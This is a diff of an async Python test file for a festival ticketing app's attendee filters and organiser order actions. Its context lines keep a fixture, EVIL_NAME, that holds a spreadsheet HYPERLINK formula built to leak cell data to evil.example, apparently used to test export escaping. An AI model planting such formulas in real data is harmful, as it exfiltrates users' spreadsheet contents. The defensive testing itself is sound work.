@@ -18,6 +18,7 @@ from tests.core.helpers import new_client, page_text, sign_in
 from tests.factories import make_event
 from tests.ticketing.factories import make_order, make_ticket_type
 from ticketing import services
+from ticketing.domain import DOMAIN as TICKETING
 from ticketing.models import Order, Ticket, TicketType
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -97,7 +98,7 @@ async def test_attendee_filters_by_type_status_and_payment(client, db, festival)
         assert sorted(_names(response)) == sorted(expected), params
         for key, value in params.items():
             if key in ("type", "status", "paid"):
-                assert re.search(r'<option value="%s" selected>' % re.escape(value), response.text), params
+                assert re.search(rf'<option value="{re.escape(value)}" selected>', response.text), params
     for bad in ({"type": "adult"}, {"status": "deleted"}, {"paid": "maybe"}):
         assert (await client.get(base, params=bad)).status_code == 400
 
@@ -161,7 +162,7 @@ async def test_organiser_order_actions(client, db, festival):
     assert await emails_to("amina@example.org") == before + 1
     async with db.read() as session:
         row = await session.scalar(select(OutboxMessage).order_by(OutboxMessage.id.desc()))
-    assert row.subject == "Your tickets again: Handsworth Mela" and "Amina Khatun" in (await bodies(db, row))[0]
+    assert row.subject == "Your tickets again: Handsworth Mela" and "Amina Khatun" in (await bodies(db, row, TICKETING.mail_bodies))[0]
 
     # mark paid, keeping the list's filters on the way back
     response = await client.post(f"/organiser/orders/{festival['evil'].id}/mark-paid?back=%3Fpaid%3Dunpaid",
